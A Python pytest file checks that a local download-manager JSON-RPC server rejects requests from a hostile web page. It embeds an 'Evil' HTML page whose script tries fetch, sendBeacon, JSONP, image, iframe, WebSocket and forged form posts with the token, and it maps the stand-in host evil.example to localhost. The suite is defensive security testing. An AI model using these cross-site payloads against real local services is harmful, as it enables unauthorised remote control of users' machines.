"""A page of a hostile site, in a real browser, that even knows the token: it reaches the local server in no way."""

import json
import os
import re
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import pytest
from headrace.profile import Profile
from headrace.settings import Settings, save_settings

from tests.support import needs
from tests.support.control_command import Control
from tests.support.nginx import Nginx
from tests.support.processes import running, wait_until
from tests.support.rpc_clients import TOKEN, Rpc, own_server

pytestmark = pytest.mark.needs("chromium", "chromium")

PAGE = """<!doctype html><title>Evil</title><script>
const url = "URL", call = (extra) => ({ jsonrpc: "2.0", id: "1", method: "aria2.addUri",
  params: ["token:TOKEN", ["http://127.0.0.1:9/evil"], { pause: "true" }], ...extra });
const found = {};
const late = () => new Promise((_, reject) => setTimeout(reject, 3000));  // a browser that asks the person first
const read = async (name, work) => {
  try { found[name] = await Promise.race([work(), late()]); } catch (error) { found[name] = "refused"; }
};
const script = (src) => new Promise((resolve, reject) => {
  const tag = document.createElement("script");
  Object.assign(tag, { src, onload: () => resolve("loaded"), onerror: reject });
  document.body.append(tag);
});
const picture = (src) => new Promise((resolve, reject) => {
  Object.assign(new Image(), { src, onload: () => resolve("loaded"), onerror: reject });
});
const frame = (src) => new Promise((resolve) => {
  const tag = Object.assign(document.createElement("iframe"), { src });
  tag.onload = () => { try { resolve(tag.contentDocument.body.textContent); } catch { resolve("refused"); } };
  document.body.append(tag);
});
const params = btoa(JSON.stringify(call().params));
const query = `${url}?method=aria2.addUri&id=1&params=${encodeURIComponent(params)}`;
globalThis.stolen = (answer) => { found.stolen = answer; };
(async () => {
  const body = JSON.stringify(call());
  await read("cors", async () => (await fetch(url, { method: "POST", body })).text());
  const headers = { "Content-Type": "application/json" };
  await read("json", async () => (await fetch(url, { method: "POST", body, headers })).text());
  await read("simple", async () => (await fetch(url, { method: "POST", body, mode: "no-cors" })).type);
  await read("get", async () => (await fetch(query)).text());
  await read("beacon", async () => navigator.sendBeacon(url, body));
  await read("jsonp", () => script(`${query}&jsoncallback=stolen`));
  await read("picture", () => picture(query));
  await read("frame", () => frame(query));
  await read("socket", () => new Promise((resolve, reject) => {
    const socket = new WebSocket(url.replace("http", "ws"));
    socket.onopen = () => { socket.send(body); resolve("open"); };
    socket.onerror = reject;
  }));
  const form = document.createElement("form");
  Object.assign(form, { method: "post", action: url, enctype: "text/plain", target: "nowhere" });
  form.append(Object.assign(document.createElement("input"), { name: body.slice(0, -1) + ',"x":"', value: '"}' }));
  document.body.append(Object.assign(document.createElement("iframe"), { name: "nowhere" }), form);
  form.submit();
  await new Promise((done) => setTimeout(done, 1500));
  new Image().src = `/found?${encodeURIComponent(JSON.stringify(found))}`;
})();
</script>"""


@pytest.fixture
def control(tmp_path: Path) -> Control:
    profile = Profile.at(tmp_path / "profile")
    save_settings(Settings(tmp_path / "downloads"), profile.settings)
    return Control(profile, tmp_path / "downloads")


@pytest.fixture
def rpc(control: Control) -> Iterator[Rpc]:
    with own_server(control) as server:
        yield server


def chromium(address: str, home: Path, *options: str) -> list[str]:
    """Return the command line of a browser without a window, in which a name leads to this machine."""
    rule = "--host-resolver-rules=MAP evil.example 127.0.0.1"
    command = [needs.require("chromium"), "--headless=new", "--disable-gpu", "--no-first-run", rule, *options]
    return [*command, *(["--no-sandbox"] if os.geteuid() == 0 else []), f"--user-data-dir={home}", address]


def tried(address: str, nginx: Nginx, home: Path) -> dict[str, Any]:
    """Let a browser open a page; return how each way ended, as the page tells its own server."""
    log = nginx.log_file.with_name("access.log")
    with running(chromium(address, home), home.with_suffix(".log")):
        wait_until(lambda: "/found?" in log.read_text(encoding="utf-8"), "the page has tried", timeout=60)
    found = re.findall(r"/found[?](\S+)", log.read_text(encoding="utf-8"))
    told: dict[str, Any] = json.loads(unquote(found[-1]))
    log.write_text("", encoding="utf-8")
    return told


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "evil.example"])
def test_no_way_in_for_a_hostile_page(rpc: Rpc, nginx: Nginx, tmp_path: Path, host: str) -> None:
    url = rpc.url.replace("127.0.0.1", host)
    page = PAGE.replace("URL", url).replace("TOKEN", TOKEN)
    (nginx.root / f"{host}.html").write_text(page, encoding="utf-8")
    address = nginx.url(f"{host}.html").replace("127.0.0.1", "evil.example", 1)
    found = tried(address, nginx, tmp_path / "home")
    assert {"cors", "json", "get", "jsonp", "picture", "frame", "socket"} <= set(found)
    assert "stolen" not in found
    reached = {name: how for name, how in found.items() if how not in ("refused", True, "opaque", "")}
    assert {name: how for name, how in reached.items() if "may not call" not in how and "not the name" not in how} == {}
    assert rpc("getGlobalStat")["numWaiting"] == "0"


def test_a_name_that_was_made_to_lead_here_is_refused(rpc: Rpc, tmp_path: Path) -> None:
    address = rpc.url.replace("127.0.0.1", "evil.example") + "?method=system.listMethods&id=1"
    command = chromium(address, tmp_path / "home", "--dump-dom")
    document = subprocess.run(command, capture_output=True, text=True, timeout=60, check=True).stdout
    assert "not the name of this machine" in document
    assert "addUri" not in document
